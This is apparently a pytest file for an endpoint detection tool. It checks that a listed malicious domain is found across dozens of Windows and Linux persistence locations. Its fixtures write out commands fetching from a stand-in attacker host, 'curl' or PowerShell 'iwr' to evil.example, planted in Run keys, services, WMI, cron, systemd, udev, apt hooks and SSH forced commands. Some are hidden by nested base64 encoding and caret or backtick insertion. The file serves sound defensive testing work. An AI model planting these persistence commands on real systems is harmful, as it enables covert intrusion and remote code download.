"""An address of the list is found in every place that starts something or names a server; its twin is not."""

from __future__ import annotations

import base64
import hashlib
import json
import struct
from typing import Any

import pytest

from quetsach.endpoint import commandline
from quetsach.endpoint.probes import executed, proxies, tasks
from quetsach.endpoint.probes.linux import apt_hooks
from tests.endpoint import world
from tests.endpoint.test_event_witness import event

URL = "http://evil.example/a"
AN = r"HKU\an\Software"
CURRENT = r"Microsoft\Windows\CurrentVersion"
STARTUP = r"C:\Users\an\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup"
TASK = "{9C8F0A6B-1111-2222-3333-444455556666}"
SYSMON = "Microsoft-Windows-Sysmon"
SECURITY = "Microsoft-Windows-Security-Auditing"
BITS = "Microsoft-Windows-Bits-Client"


def _key(key: str, **values: Any) -> dict[str, Any]:
    return {"registry": {key: values}}


def _file(path: str, content: str) -> dict[str, Any]:
    return {"files": {path: content}}


def _events(log: str, *told: Any) -> dict[str, Any]:
    return {"events": {log: list(told)}}


def _wide(text: str) -> bytes:
    raw = text.encode("utf-16-le")
    return struct.pack("<I", len(raw)) + raw


def stored(command: str, arguments: str) -> bytes:
    texts = b"".join(map(_wide, ("", command, arguments, "")))
    return struct.pack("<H", 3) + _wide("Author") + b"\x66\x66" + texts + b"\0\0"


def _winhttp(proxy: str) -> bytes:
    return struct.pack("<IIII", 24, 0, 3, len(proxy)) + proxy.encode() + struct.pack("<I", 0)


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def _tree(url: str) -> dict[str, Any]:
    return {
        "registry": {
            rf"{world.NT}\Schedule\TaskCache\Tree\Cap nhat": {"Id": TASK, "SD": b"\1"},
            rf"{world.NT}\Schedule\TaskCache\Tasks\{TASK}": {"Actions": stored("mshta.exe", url)},
        }
    }


PLACES: dict[str, Any] = {
    "arguments of a service": lambda url: _key(
        rf"{world.SERVICES}\cap", ImagePath=rf"C:\Windows\System32\cmd.exe /c curl {url}", Start=2
    ),
    "arguments of a driver": lambda url: _key(
        rf"{world.SERVICES}\drv", ImagePath=rf"\SystemRoot\System32\drivers\x.sys -u {url}", Type=1
    ),
    "what a service runs when it fails": lambda url: _key(
        rf"{world.SERVICES}\cap", ImagePath=r"C:\a.exe", FailureCommand=f"cmd /c start {url}"
    ),
    "a service in a wrapper": lambda url: {
        "registry": {
            rf"{world.SERVICES}\nssm": {"ImagePath": r"C:\nssm.exe"},
            rf"{world.SERVICES}\nssm\Parameters": {"Application": "p.exe", "AppParameters": f"-u {url}"},
        }
    },
    "a task": lambda url: _file(rf"{world.TASKS}\Cap nhat", world.task("mshta.exe", url)),
    "a task without a file": _tree,
    "Run": lambda url: _key(rf"{AN}\{CURRENT}\Run", x=f"mshta {url}"),
    "Run, encoded": lambda url: _key(
        rf"{AN}\{CURRENT}\Run", x=f"powershell -nop -w hidden -EncodedCommand {encoded(f'iwr {url}')}"
    ),
    "Run, encoded twice": lambda url: _key(
        rf"{AN}\{CURRENT}\Run", x=f"powershell -e {encoded(f'powershell -enc {encoded(url + chr(32))}')}"
    ),
    "what every cmd.exe runs": lambda url: _key(rf"{AN}\Microsoft\Command Processor", AutoRun=f"curl {url}"),
    "WMI": lambda url: _file(
        r"C:\Windows\System32\wbem\Repository\OBJECTS.DATA",
        f"\x01CommandLineEventConsumer\0\0cmd.exe /c curl {url}\0KernCap.vbs\0",
    ),
    "a script in the Startup folder": lambda url: _file(rf"{STARTUP}\a.bat", f"@echo off\r\ncurl {url}\r\n"),
    "a link to the web in the Startup folder": lambda url: _file(
        rf"{STARTUP}\a.url", f"[InternetShortcut]\r\nURL={url}\r\n"
    ),
    "a link to the web in a Startup folder that a setting moved": lambda url: {
        **_file(r"C:\Kho\a.url", f"[InternetShortcut]\r\nURL={url}\r\n"),
        **_key(rf"{AN}\{CURRENT}\Explorer\User Shell Folders", Startup=r"C:\Kho"),
    },
    "a pinned site in the Startup folder": lambda url: _file(
        rf"{STARTUP}\a.website", f"[InternetShortcut]\r\nURL={url}\r\n"
    ),
    "a page in the Startup folder": lambda url: _file(
        rf"{STARTUP}\a.html", f"<meta http-equiv=refresh content='0;url={url}'>"
    ),
    "a program of the web in the Startup folder": lambda url: _file(
        rf"{STARTUP}\a.appref-ms", f"{url}.application#a".encode("utf-16").decode("utf-8", "surrogateescape")
    ),
    "settings of a script in the Startup folder": lambda url: _file(
        rf"{STARTUP}\a.wsh", f"[ScriptFile]\r\nPath={url}\r\n"
    ),
    "a script of a policy for a group": lambda url: _file(
        r"C:\Windows\System32\GroupPolicyUsers\S-1-5-32-545\User\Scripts\Logon\a.bat", f"curl {url}\n"
    ),
    "a script of a policy": lambda url: _file(
        r"C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\a.ps1", f"iwr {url}\n"
    ),
    "the list of scripts of a policy": lambda url: _key(
        rf"HKLM\SOFTWARE\{CURRENT}\Group Policy\Scripts\Startup\0\0", Script="mshta.exe", Parameters=url
    ),
    "a policy of Chrome": lambda url: _key(r"HKLM\SOFTWARE\Policies\Google\Chrome", HomepageLocation=url),
    "extensions by a policy of Edge": lambda url: _key(
        r"HKLM\SOFTWARE\Policies\Microsoft\Edge\ExtensionInstallForcelist", a=f"abcdefgh;{url}"
    ),
    "the start page": lambda url: {
        "registry": {rf"{AN}\Microsoft\Internet Explorer\Main": {"Start Page": url}}
    },
    "where Windows takes its updates": lambda url: _key(
        r"HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate", WUServer=url
    ),
    "a profile of PowerShell": lambda url: _file(
        r"C:\Users\an\Documents\WindowsPowerShell\profile.ps1", f"iwr {url}\n"
    ),
    "the profile of PowerShell for all": lambda url: _file(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1", f"iwr {url}\n"
    ),
    "the proxy of services": lambda url: _key(
        rf"HKLM\SOFTWARE\{CURRENT}\Internet Settings\Connections",
        WinHttpSettings=_winhttp(url.split("/")[2] + ":8080"),
    ),
    "the box Run": lambda url: _key(rf"{AN}\{CURRENT}\Explorer\RunMRU", a=f"mshta {url}\\1", MRUList="a"),
    "Sysmon 1": lambda url: _events(
        f"{SYSMON}%4Operational.evtx",
        event(1, provider=SYSMON, Image=r"C:\a.exe", CommandLine=f"a.exe {url}"),
    ),
    "Security 4688": lambda url: _events(
        "Security.evtx",
        event(4688, provider=SECURITY, NewProcessName=r"C:\a.exe", CommandLine=f"a -enc {encoded(url)}"),
    ),
    "BITS 59": lambda url: _events(f"{BITS}%4Operational.evtx", event(59, provider=BITS, url=url, name="x")),
    "BITS 60": lambda url: _events(f"{BITS}%4Operational.evtx", event(60, provider=BITS, url=url)),
    "BITS 61": lambda url: _events(f"{BITS}%4Operational.evtx", event(61, provider=BITS, url=url)),
    "DNS client 1014": lambda url: _events(
        "System.evtx",
        event(1014, provider="Microsoft-Windows-DNS-Client", QueryName=url.split("/")[2]),
    ),
}
"""Place → the plant for a URL."""


@pytest.mark.recorded
@pytest.mark.parametrize("place", PLACES)
def test_an_address_of_the_list_is_found_in_every_place(place: str) -> None:
    done = world.look_at_recording(world.planted(PLACES[place](URL)))
    assert {one.indicator for one in done.findings if one.indicator} == {"evil.example"}
    twin = world.look_at_recording(world.planted(PLACES[place]("http://notevil.example/a")))
    assert {one.indicator for one in twin.findings if one.indicator} == set()


@pytest.mark.parametrize(
    "key",
    [
        rf"{world.SERVICES}\Tcpip\Parameters",
        rf"{world.SERVICES}\Tcpip\Parameters\Interfaces\{TASK}",
        rf"{world.SERVICES}\Tcpip6\Parameters\Interfaces\{TASK}",
    ],
)
@pytest.mark.parametrize(("address", "is_listed"), [("198.51.100.66", True), ("198.51.100.67", False)])
def test_a_dns_server_of_the_list_is_certain(key: str, address: str, is_listed: bool) -> None:
    done = world.look_at_recording(world.planted(_key(key, NameServer=f"192.0.2.1,{address}")))
    assert str(done.verdict) == ("found" if is_listed else "clean")


@pytest.mark.parametrize(
    "plant",
    [
        lambda digest: {
            "registry": {
                r"HKLM\AMCACHE\Root\InventoryApplicationFile\a|1": {
                    "LowerCaseLongPath": r"c:\users\an\a.exe", "FileId": f"0000{digest}",
                }
            }
        },
        lambda digest: _events(
            f"{SYSMON}%4Operational.evtx",
            event(1, provider=SYSMON, Image=r"C:\a.exe", CommandLine="a.exe -x",
                  Hashes=f"SHA1={digest.upper()},MD5={'0' * 32},IMPHASH={'1' * 32}"),
        ),
    ],
)  # fmt: skip
def test_the_hash_of_a_program_that_is_gone_is_strong(plant: Any) -> None:
    digest = hashlib.sha1(b"x", usedforsecurity=False).hexdigest()
    told = world.planted(plant(digest))
    done = world.look_at_recording(told, hashes={digest: "Ramnit", "1" * 32: "imphash"})
    assert [(one.indicator, one.family, str(one.confidence)) for one in done.findings] == [
        (digest, "Ramnit", "D2")
    ]
    assert str(done.verdict) == "check"
    assert str(world.look_at_recording(told, hashes={"2" * 40: ""}).verdict) == "clean"


@pytest.mark.parametrize(
    ("text", "inner"),
    [
        (f"powershell -enc {encoded('iwr evil.example')}", "iwr evil.example"),
        (f"pwsh.exe /EncodedCommand:{encoded('iwr evil.example')}", "iwr evil.example"),
        (f'powershell –e "{encoded("iwr evil.example")}"', "iwr evil.example"),
        (f"powershell -ec {encoded('iwr evil.example')}"[:-3], "iwr evil.examp"),
    ],
)
def test_what_powershell_gets_encoded_is_read(text: str, inner: str) -> None:
    told, is_whole = commandline.unfolded(text)
    assert inner in told
    assert is_whole


@pytest.mark.parametrize(
    "text", ["-enc ====", "-e " + "A" * 100_000, "-enc " * 20_000, "\ud800 -enc AAAA" * 99]
)
def test_an_encoded_command_of_any_shape_is_bounded(text: str) -> None:
    assert len(commandline.unfolded(text)[0]) < 1_000_000


def test_encoded_commands_within_each_other_end() -> None:
    text = "x"
    for _level in range(12):
        text = f"powershell -enc {encoded(text)}"
    told, is_whole = commandline.unfolded(text)
    assert told.count("powershell") <= 5
    assert not is_whole


@pytest.mark.parametrize(("levels", "verdict"), [(3, "found"), (4, "found"), (9, "unknown")])
def test_what_is_encoded_too_often_is_never_clean(levels: int, verdict: str) -> None:
    command = f"iwr {URL}"
    for _level in range(levels):
        command = f"powershell -enc {encoded(command)}"
    done = world.look_at_recording(world.planted(_key(rf"{AN}\{CURRENT}\Run", x=command)))
    assert str(done.verdict) == verdict
    assert [gap.reason for gap in done.observed["indicators"].gaps] == ["too_deep"] * (levels == 9)


@pytest.mark.parametrize(
    "command",
    [
        f"cmd /c p^owershell -e^nc {encoded(f'iwr {URL}')}",
        "cmd /c start ht^tp://ev^il.exam^ple/a",
        f"powershell -enc {encoded('iwr ht`tp://ev`il.example/a')}",
    ],
)
def test_marks_within_words_hide_no_address(command: str) -> None:
    done = world.look_at_recording(world.planted(_key(rf"{AN}\{CURRENT}\Run", x=command)))
    assert {one.indicator for one in done.findings if one.indicator} == {"evil.example"}


def test_a_line_that_is_longer_than_the_check_reads_is_never_clean() -> None:
    for pad, verdict in ((5_000, "found"), (70_000, "unknown")):
        told = world.planted(_file(rf"{STARTUP}\a.bat", f"rem {'a' * pad} & curl {URL}\r\n"))
        assert str(world.look_at_recording(told).verdict) == verdict


def test_values_of_the_registry_that_are_cut_off_give_what_stands_before() -> None:
    whole = stored("a.exe", "b")
    for length in range(len(whole)):
        runs, is_whole = tasks.stored_actions(whole[:length].hex())
        assert runs in ([], [("a.exe", "b")])
        assert is_whole == (length in (0, len(whole) - 2)), "without its flags it is as good as whole"
    assert tasks.stored_actions(whole.hex()) == ([("a.exe", "b")], True)
    shim = bytearray(struct.pack("<I", 52).ljust(52, b"\0"))
    for path in (r"C:\a.exe", r"C:\Users\an\KMSpico.exe"):
        raw = path.encode("utf-16-le")
        body = struct.pack("<H", len(raw)) + raw + bytes(12)
        shim += b"10ts" + bytes(4) + struct.pack("<I", len(body)) + body
    for length in range(len(shim)):
        found, is_whole = executed.cached_programs(bytes(shim[:length]).hex())
        assert len(found) <= 2
        assert not is_whole or len(found) == shim[:length].count(b"10ts")
    programs = [r"C:\a.exe", r"C:\Users\an\KMSpico.exe"]
    assert executed.cached_programs(bytes(shim).hex()) == (programs, True)
    assert proxies.winhttp_proxy(_winhttp("a:1").hex()) == "a:1"
    for told in ("", "zz", "00" * 9, (b"\xff" * 16).hex()):
        assert proxies.winhttp_proxy(told) == ""


APT = '// DPkg::Post-Invoke {"curl http://notevil.example"};\nDPkg::Post-Invoke {"curl %s"; "true";};\n'
LINUX: dict[str, Any] = {
    "rc.local": lambda url: ("/etc/rc.local", f"#!/bin/sh\ncurl {url}\n"),
    "profile.d": lambda url: ("/etc/profile.d/a.sh", f"curl {url}\n"),
    "a profile of one person": lambda url: ("/root/.bashrc", f"curl {url}\n"),
    "autostart": lambda url: ("/etc/xdg/autostart/a.desktop", f"[Desktop Entry]\nExec=curl {url}\n"),
    "autostart of one person": lambda url: ("/root/.config/autostart/a.desktop", f"Exec=curl {url}\n"),
    "cron.d": lambda url: ("/etc/cron.d/a", f"* * * * * root curl {url}\n"),
    "cron.hourly": lambda url: ("/etc/cron.hourly/a", f"#!/bin/sh\ncurl {url}\n"),
    "cron.daily": lambda url: ("/etc/cron.daily/a", f"#!/bin/sh\ncurl {url}\n"),
    "cron.weekly": lambda url: ("/etc/cron.weekly/a", f"#!/bin/sh\ncurl {url}\n"),
    "a drop-in of a unit": lambda url: (
        "/etc/systemd/system/cron.service.d/a.conf", f"[Service]\nExecStartPre=/usr/bin/curl {url}\n"
    ),
    "a hook of apt": lambda url: ("/etc/apt/apt.conf.d/99a", APT % url),
    "a forced command": lambda url: (
        "/root/.ssh/authorized_keys", f'no-pty,command="curl {url} -o x" ssh-ed25519 AAAA an@x\n'
    ),
    "a unit of systemctl set-property": lambda url: (
        "/etc/systemd/system.control/a.service", f"[Service]\nExecStart=/usr/bin/curl {url}\n"
    ),
    "a command of a unit on its next line": lambda url: (
        "/etc/systemd/system/a.service", f"[Service]\nExecStart=/bin/sh -c \\\n# x\n  'curl {url}'\n"
    ),
    "a generator": lambda url: ("/etc/systemd/system-generators/a", f"#!/bin/sh\ncurl {url}\n"),
    "a job of at": lambda url: ("/var/spool/cron/atjobs/a0001", f"#!/bin/sh\ncurl {url}\n"),
    "cron.yearly": lambda url: ("/etc/cron.yearly/a", f"#!/bin/sh\ncurl {url}\n"),
    "a rule of udev": lambda url: ("/etc/udev/rules.d/9.rules", f'RUN+="/usr/bin/curl {url}"\n'),
    "update-motd.d": lambda url: ("/etc/update-motd.d/9", f"#!/bin/sh\ncurl {url}\n"),
    "a dispatcher of NetworkManager": lambda url: (
        "/etc/NetworkManager/dispatcher.d/pre-up.d/9", f"#!/bin/sh\ncurl {url}\n"
    ),
    "if-up.d": lambda url: ("/etc/network/if-up.d/9", f"#!/bin/sh\ncurl {url}\n"),
    "sshrc": lambda url: ("/etc/ssh/sshrc", f"curl {url}\n"),
    "ssh rc of one person": lambda url: ("/root/.ssh/rc", f"curl {url}\n"),
    "logrotate": lambda url: ("/etc/logrotate.d/a", f"/a {{\n postrotate\n  curl {url}\n endscript\n}}\n"),
    "modprobe": lambda url: ("/etc/modprobe.d/a.conf", f"install usb /usr/bin/curl {url}\n"),
    "a name over two lines": lambda url: ("/root/.bashrc", f"curl {url[:12]}\\\n{url[12:]}\n"),
    "a condition of a unit": lambda url: (
        "/etc/systemd/system/a.service", f"[Service]\nExecCondition=/usr/bin/curl {url}\n"
    ),
    "what a unit runs at its end": lambda url: (
        "/etc/systemd/system/a.service", f"[Service]\nExecStopPost=-/usr/bin/curl {url}\n"
    ),
    "a unit that lasts until the next start": lambda url: (
        "/run/systemd/transient/a.service", f"[Service]\nExecStart=/usr/bin/curl {url}\n"
    ),
    "a program that the D-Bus starts": lambda url: (
        "/usr/share/dbus-1/services/a.service", f"[D-BUS Service]\nName=a\nExec=/usr/bin/curl {url}\n"
    ),
    "fish": lambda url: ("/root/.config/fish/config.fish", f"curl {url}\n"),
    "inittab": lambda url: ("/etc/inittab", f"x:2345:respawn:/usr/bin/curl {url}\n"),
    "the DNS server": lambda _url: ("/etc/resolv.conf", "nameserver 198.51.100.66\n"),
}  # fmt: skip


@pytest.mark.parametrize("place", [name for name in LINUX if name != "the DNS server"])
def test_an_address_of_the_list_is_found_in_every_place_of_linux(place: str) -> None:
    from tests.endpoint.test_signs import LINUX_CLEAN

    for url, found in ((URL, {"evil.example"}), ("http://notevil.example/a", set())):
        path, content = LINUX[place](url)
        told = LINUX_CLEAN | {"files": LINUX_CLEAN["files"] | {path: content}, "registry": {}}
        done = world.look_at_recording(told)
        assert {one.indicator for one in done.findings if one.indicator} == found


def test_a_dns_server_of_the_list_on_linux() -> None:
    from tests.endpoint.test_signs import LINUX_CLEAN

    path, content = LINUX["the DNS server"](URL)
    told = LINUX_CLEAN | {"files": LINUX_CLEAN["files"] | {path: content}, "registry": {}}
    assert str(world.look_at_recording(told).verdict) == "found"


def test_hooks_of_apt_by_their_manual() -> None:
    text = (
        'APT::Update::Post-Invoke-Success {"a \\"b\\" c";};\n'
        '# DPkg::Pre-Invoke {"no";};\nDPkg::Pre-Install-Pkgs:: "/usr/bin/d";\n'
        'APT::Periodic::Enable "1";\n'
    )
    assert apt_hooks(text) == (['a "b" c', "/usr/bin/d"], True)


def test_only_the_line_that_matches_leaves_the_machine() -> None:
    from quetsach.endpoint.reporting import result

    told = world.planted(_file(rf"{STARTUP}\a.bat", f"rem mat khau 1234\r\ncurl {URL}\r\n"))
    document = json.dumps(result.as_table(world.look_at_recording(told)))
    assert "evil.example" in document
    assert "mat khau" not in document
